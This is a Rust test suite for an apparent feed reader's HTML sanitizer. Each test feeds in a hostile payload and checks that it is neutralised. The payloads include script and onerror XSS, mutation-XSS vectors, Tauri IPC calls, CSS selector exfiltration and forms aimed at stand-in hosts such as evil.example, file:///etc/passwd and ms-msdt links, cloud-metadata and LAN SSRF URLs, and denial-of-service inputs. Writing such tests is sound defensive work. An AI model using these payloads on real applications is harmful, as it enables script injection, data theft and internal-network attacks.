//! Every case of payloads §A (hostile HTML in feed content and article bodies), each
//! asserting its own "expect" plus INV-1 and INV-2 on the output.

mod sanitize_invariants;

use std::time::{Duration, Instant};

use broadsheet_engine::sanitize::{
    check_complexity, html_to_text, sanitize_article_html, SanitizeError, MAX_HTML_BYTES,
};
use sanitize_invariants::{article, checked};

#[test]
fn script_ipc() {
    let out =
        checked("<p>hi</p><script>window.__TAURI_INTERNALS__.invoke('delete_all_feeds')</script>");
    assert_eq!(out.html, "<p>hi</p>");
}

#[test]
fn img_onerror() {
    let out = checked(r#"<img src=x onerror="alert(1)">"#);
    assert_eq!(out.html, r#"<img src="https://news.example/2024/x">"#);
}

#[test]
fn svg_onload() {
    assert_eq!(
        checked("<svg onload=alert(1)><circle r=5 /></svg>").html,
        ""
    );
}

#[test]
fn svg_xlink_script() {
    let out = checked(
        r#"<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><script>alert(2)</script></svg>"#,
    );
    assert_eq!(out.html, "");
}

#[test]
fn math_mglyph_style() {
    let out = checked(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    );
    assert!(!out.html.contains("onerror"), "{}", out.html);
}

#[test]
fn math_svg_combo() {
    let out =
        checked("<math><mi><svg><style><img src=x onerror=alert(1)></style></svg></mi></math>");
    assert!(!out.html.contains("onerror"), "{}", out.html);
}

#[test]
fn noscript_attr_break() {
    let out = checked(r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#);
    assert!(!out.html.contains("onerror"), "{}", out.html);
    assert!(
        !out.html.contains("<p"),
        "the noscript content must not become markup: {}",
        out.html
    );
}

#[test]
fn template_hidden() {
    assert_eq!(
        checked("<template><img src=x onerror=alert(1)></template>").html,
        ""
    );
}

#[test]
fn iframe_srcdoc() {
    let out = checked(
        r#"<iframe srcdoc="<script>parent.__TAURI_INTERNALS__.invoke('x')</script>" src="https://evil.example/"></iframe>"#,
    );
    assert_eq!(out.html, "");
    assert!(out.images.is_empty());
}

#[test]
fn object_embed() {
    let out = checked(
        r#"<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.pdf">"#,
    );
    assert_eq!(out.html, "");
    assert!(!out.html.contains("evil.example"));
}

#[test]
fn form_formaction() {
    let out = checked(
        r#"<form action="https://evil.example/s"><input name=q value=secret><button formaction="javascript:alert(1)">Go</button></form>"#,
    );
    assert_eq!(out.html, "Go");
}

#[test]
fn meta_refresh() {
    let in_head = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body><p>x</p></body></html>"#;
    assert_eq!(checked(in_head).html, "<p>x</p>");
    let in_body = r#"<p>x</p><meta http-equiv="refresh" content="0;url=https://evil.example/">"#;
    assert_eq!(checked(in_body).html, "<p>x</p>");
}

#[test]
fn base_hijack() {
    let out = checked(r#"<base href="https://evil.example/"><a href="/login">x</a>"#);
    assert_eq!(
        out.html,
        r#"<a href="https://news.example/login" rel="noopener noreferrer nofollow">x</a>"#
    );
}

#[test]
fn style_attr_tracking() {
    let out = checked(r#"<p style="background:url(https://t.example/px?u=1)">x</p>"#);
    assert_eq!(out.html, "<p>x</p>");
}

#[test]
fn css_exfil_selectors() {
    let out =
        checked("<style>input[value^=a]{background:url(https://t.example/a)}</style><p>x</p>");
    assert_eq!(out.html, "<p>x</p>");
}

#[test]
fn css_import() {
    let out = checked(
        r#"<link rel=stylesheet href="https://evil.example/x.css"><style>@import 'https://evil.example/y.css';</style>"#,
    );
    assert_eq!(out.html, "");
}

#[test]
fn double_decode_title() {
    // What feed-rs hands over for `<description>&amp;lt;script&amp;gt;…`: escaped markup,
    // which must stay text.
    let out = checked("&lt;script&gt;alert(1)&lt;/script&gt;");
    assert_eq!(out.html, "&lt;script&gt;alert(1)&lt;/script&gt;");
    assert_eq!(html_to_text(&out.html), "<script>alert(1)</script>");
}

#[test]
fn title_into_markup() {
    // Titles are text for the UI; if one ever reaches the sanitizer it must not create elements.
    let out = checked(r#""><img src=x onerror=alert(1)>'onmouseover='alert(1)"#);
    assert!(!out.html.contains("onerror"), "{}", out.html);
    // The author's quote trick stays literal text, not an attribute (INV-1 checked no on*).
    assert!(
        html_to_text(&out.html).contains("'onmouseover='alert(1)"),
        "{}",
        out.html
    );
}

#[test]
fn nul_ctrl_split() {
    let out = checked(
        "<scr\u{0}ipt>alert(1)</scr\u{0}ipt><a href=\"\u{1}java\u{3}script:alert(1)\">x</a>",
    );
    assert!(!out.html.contains("<script"), "{}", out.html);
    assert!(!out.html.contains("href=\"java"), "{}", out.html);
    assert!(
        !out.html.contains("href")
            || out
                .html
                .contains(r#"href="https://news.example/2024/java%03script:alert(1)""#),
        "{}",
        out.html
    );
}

#[test]
fn data_uris() {
    let out = checked(
        r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">"#,
    );
    assert!(!out.html.contains("data:"), "{}", out.html);
    assert!(!out.html.contains("href="), "{}", out.html);
    assert!(out.images.is_empty());
}

#[test]
fn srcset_poison() {
    let out = checked(
        r#"<img src="a.png" srcset="javascript:alert(1) 1x, http:a<script>alert(1)</script> 2x, b.png 3x">"#,
    );
    assert_eq!(
        out.html,
        r#"<img src="https://news.example/2024/a.png" srcset="https://news.example/2024/b.png 3x">"#
    );
}

#[test]
fn picture_source() {
    let out = checked(
        r#"<picture><source srcset="s.webp 1x, javascript:alert(1) 2x" type="image/webp"><img src="a.png"></picture>"#,
    );
    assert_eq!(
        out.html,
        r#"<picture><source srcset="https://news.example/2024/s.webp 1x" type="image/webp"><img src="https://news.example/2024/a.png"></picture>"#
    );
}

#[test]
fn video_poster() {
    let out = checked(
        r#"<video src="v.mp4" poster="javascript:alert(1)" autoplay onplay=alert(1) controls></video>"#,
    );
    assert_eq!(
        out.html,
        r#"<video src="https://news.example/2024/v.mp4" controls=""></video>"#
    );
}

#[test]
fn dangerous_schemes() {
    let out = checked(
        r#"<a href="file:///etc/passwd">f</a><a href="smb://10.0.0.5/s">s</a><a href="ms-msdt:/id PCWDiagnostic">w</a><a href="ssh://h">h</a><a href="magnet:?xt=urn:x">m</a>"#,
    );
    assert!(!out.html.contains("href"), "{}", out.html);
    assert_eq!(
        out.html.matches("<a ").count(),
        5,
        "the links stay as inert text: {}",
        out.html
    );
}

#[test]
fn mailto_kept() {
    let out = checked(r#"<a href="mailto:desk@news.example">mail us</a>"#);
    assert!(
        out.html.contains(r#"href="mailto:desk@news.example""#),
        "{}",
        out.html
    );
}

#[test]
fn target_blank_opener() {
    let out = checked(r#"<a href="https://x.example/" target="_blank" rel="opener">x</a>"#);
    assert_eq!(
        out.html,
        r#"<a href="https://x.example/" rel="noopener noreferrer nofollow">x</a>"#
    );
}

#[test]
fn link_click_paths() {
    // The click paths are the UI's; the sanitizer's part is a plain absolute link with no target.
    let out = checked(r#"<a href="https://x.example/">x</a>"#);
    assert!(!out.html.contains("target"), "{}", out.html);
    assert!(out.html.contains(r#"href="https://x.example/""#));
}

#[test]
fn tracking_pixel() {
    let out = checked(r#"<p>x<img src="https://t.example/p.gif?uid=42" width=1 height=1></p>"#);
    assert_eq!(out.html, "<p>x</p>");
    assert!(
        out.images.is_empty(),
        "a pixel must not be downloaded: {:?}",
        out.images
    );
}

#[test]
fn lan_csrf_via_img() {
    // The sanitizer keeps these (they are valid http URLs); the image fetcher's address
    // check is what refuses them. They must at least be absolute and listed for that check.
    let out = checked(
        r#"<img src="http://192.168.1.1/cgi-bin/reboot"><img src="http://127.0.0.1:2375/containers/json"><img src="http://169.254.169.254/latest/meta-data/">"#,
    );
    let hosts: Vec<_> = out
        .images
        .iter()
        .map(|u| u.host_str().unwrap().to_string())
        .collect();
    assert_eq!(hosts, ["192.168.1.1", "127.0.0.1", "169.254.169.254"]);
}

fn assert_refused_fast(input: &str) {
    let started = Instant::now();
    let result = sanitize_article_html(input, &article());
    let elapsed = started.elapsed();
    let error = result.expect_err("pathological input must be refused");
    assert_eq!(error, SanitizeError::TooComplex);
    assert_eq!(error.to_string(), "article too complex");
    assert_eq!(error.kind(), "too_complex");
    assert!(elapsed < Duration::from_millis(500), "took {elapsed:?}");
}

#[test]
fn deep_nesting_dos() {
    assert_refused_fast(&"<div>".repeat(200_000));
    assert_refused_fast(&"<ul><li>".repeat(100_000));
    assert_refused_fast(&"<table><tr><td>".repeat(50_000));
}

#[test]
fn attribute_flood() {
    let input: String = std::iter::once("<p".to_string())
        .chain((0..100_000).map(|i| format!(" data-a{i}=x")))
        .chain(std::iter::once(">x</p>".to_string()))
        .collect();
    assert_refused_fast(&input);
}

#[test]
fn huge_single_item() {
    let input = format!("<p>{}</p>", "A".repeat(10_000_000));
    let started = Instant::now();
    let error = sanitize_article_html(&input, &article()).unwrap_err();
    assert!(started.elapsed() < Duration::from_millis(100));
    assert_eq!(
        error,
        SanitizeError::TooLarge {
            bytes: input.len(),
            limit: MAX_HTML_BYTES
        }
    );
    assert_eq!(error.kind(), "too_large");
    assert!(check_complexity(&input).is_err());
}
